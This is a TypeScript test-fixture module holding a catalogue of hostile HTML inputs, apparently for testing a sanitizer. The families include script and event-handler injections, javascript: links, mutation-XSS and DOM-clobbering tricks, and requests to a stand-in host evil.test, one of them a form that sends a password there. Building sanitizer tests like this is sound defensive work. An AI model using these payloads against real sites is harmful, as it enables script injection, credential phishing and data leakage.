/** By technique; `alert` shows that markup was executed, and evil.test that a request was made. */
const FAMILIES: Record<string, readonly string[]> = {
  scripts: [
    '<script>alert(1)</script>',
    '<script src="https://evil.test/a.js"></script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script/x>alert(1)</script y>',
    '<script>alert(1)',
  ],
  handlers: [
    '<img src=x onerror=alert(1)>',
    '<img/src="x"/onerror="alert(1)">',
    "<img src='x' onerror='alert(1)' style='width:9999px'>",
    '<body onload=alert(1)><p>text',
    '<input autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)>text',
    '<video><source onerror=alert(1)></video>',
    '<marquee onstart=alert(1)>text</marquee>',
    '<p onclick="alert(1)" style="color:red">text</p>',
    '<div onpointerover=alert(1) style=position:fixed;inset:0;z-index:99999>text</div>',
    '<audio src onloadstart=alert(1)>',
    '<style onload=alert(1)></style>',
  ],
  addresses: [
    '<a href="javascript:alert(1)">text</a>',
    '<a href="java\tscript:alert(1)">text</a>',
    '<a href="&#106;avascript:alert(1)">text</a>',
    '<a href="data:text/html,<script>alert(1)</script>">text</a>',
    '<a href="vbscript:msgbox(1)">text</a>',
    '<img src="javascript:alert(1)">',
    '<a href="//evil.test/">text</a>',
    '<area href="javascript:alert(1)">',
  ],
  requests: [
    '<img src="https://evil.test/p.gif?u=1" alt="text">',
    '<img srcset="https://evil.test/p.gif 2x" src="https://evil.test/q.gif">',
    '<picture><source srcset="https://evil.test/p.gif"><img src="https://evil.test/q.gif"></picture>',
    '<p style="background:url(https://evil.test/b.gif)">text</p>',
    '<table background="https://evil.test/t.gif"><tr><td background="https://evil.test/u.gif">text</table>',
    '<link rel=stylesheet href="https://evil.test/a.css">',
    '<video poster="https://evil.test/v.gif" src="https://evil.test/v.mp4"></video>',
    '<object data="https://evil.test/o"></object><embed src="https://evil.test/e">',
    '<iframe src="https://evil.test/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a ping="https://evil.test/ping" href="#">text</a>',
    '<svg><image href="https://evil.test/s.gif"/><use href="https://evil.test/s.svg#a"/></svg>',
  ],
  page: [
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    '<frameset>',
    '<base href="https://evil.test/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<form action="https://evil.test/"><input name=password><button>text</button></form>',
    '<html style="display:none"><head><title>text</title></head><body style="display:none">text',
    '</div></li></ul></body></html><p>text',
    '<plaintext>text',
    '<dialog open style="position:fixed;inset:0">text</dialog>',
  ],
  styles: [
    '<style>*{display:none!important}</style>text',
    '<style>@import "https://evil.test/a.css";</style>',
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">text</div>',
    '<p class="MuiBackdrop-root" style="inset:0">text</p>',
    '<style><a title="</style><img src=x onerror=alert(1)>">',
  ],
  foreign: [
    '<svg onload=alert(1)><circle/></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>',
    '<math href="javascript:alert(1)">text</math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math><annotation-xml encoding="text/html"><p style="x:y"><img src=x onerror=alert(1)></p></annotation-xml></math>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg><desc><template><p style=x><img src=x onerror=alert(1)></template></desc></svg>',
  ],
  mutations: [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror=alert(1)></template>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
    '<xmp><p id="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<select><style></select><img src=x onerror=alert(1)></style>',
    '<a title="`<img src=x onerror=alert(1)>`">text</a>',
    '<table><td><p style="x"><table><td><a href="x" style="y"><table>',
  ],
  names: [
    '<a id=config name=body>text</a>',
    '<form name=currentScript id=forms><input name=attributes><input name=childNodes></form>',
    '<img name=getElementById><img name=querySelector id=__NEXT_DATA__>',
    '<a id=app href="https://evil.test/">text</a><a id=stage>text</a>',
    '<p id="__proto__" class="constructor" slot="x" is="y-z">text</p>',
  ],
  broken: [
    '<',
    '<<<<>>>>',
    '<p style="never ends',
    '<p "style=color:red" =onclick=alert(1)>text',
    '<b><i><u><b><i>text',
    `${'<div style="margin:9px">'.repeat(2000)}text`,
    `${'<b>'.repeat(5000)}text`,
    '<p>\u0000\u202e text \ufeff</p>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    `text ${'x'.repeat(5000)}`,
    `<p title="${'"'.repeat(500)}>${'<'.repeat(500)}`,
  ],
};

/** Each kind of markup alone, to see its effect without sanitizing. */
export const HOSTILE_TEXTS: readonly string[] = Object.values(FAMILIES).flat();

const MIXERS: readonly ((text: string, other: string) => string)[] = [
  (text) => text,
  (text) => `<div><p>前</p>${text}<p>后</p></div>`,
  (text, other) => text + other,
  (text) => text.replace(/<[a-z]+/gi, (tag) => tag.toUpperCase()),
  (text, other) => `<table><tr><td>${text}</td></tr></table>${other}`,
  (text) => `<b><i>${text}`,
  (text) => `<ul><li>${text}<li>${text}</ul>`,
  (text, other) => `<a href="https://ok.example/">${text}</a>${other}`,
  (text) => text.replace(/=/g, ' = '),
  (text) => `<blockquote style="all:unset">${text}</blockquote>`,
  (text, other) => `<!-- ${other} -->${text}<!--`,
];

/** Texts that all differ: each kind in turn, combined with its neighbours. */
export const mixedTexts = (count: number): string[] =>
  Array.from({ length: count }, (_, index) => {
    const at = index % HOSTILE_TEXTS.length;
    const mix = MIXERS[Math.floor(index / HOSTILE_TEXTS.length) % MIXERS.length]!;
    return mix(HOSTILE_TEXTS[at]!, HOSTILE_TEXTS[(at * 7 + index) % HOSTILE_TEXTS.length]!);
  });
